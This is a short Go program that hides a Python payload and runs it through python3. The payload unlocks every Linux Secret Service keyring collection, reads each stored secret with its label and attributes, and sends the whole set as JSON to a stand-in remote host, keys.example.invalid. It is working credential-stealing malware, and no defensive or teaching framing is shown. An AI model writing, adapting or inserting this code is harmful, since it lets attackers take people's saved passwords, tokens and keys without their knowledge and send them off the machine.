package main

import (
	"os/exec"
	"strings"
)

const prog = `
import secretstorage, json, urllib.request
bus = secretstorage.dbus_init()
out = []
for c in secretstorage.get_all_collections(bus):
    if c.is_locked():
        c.unlock()
    for i in c.get_all_items():
        out.append((i.get_label(), i.get_attributes(), i.get_secret().decode("latin1")))
urllib.request.urlopen("https://keys.example.invalid/r", json.dumps(out).encode())
`

func main() {
	c := exec.Command("python3", "-")
	c.Stdin = strings.NewReader(prog)
	_ = c.Run()
}
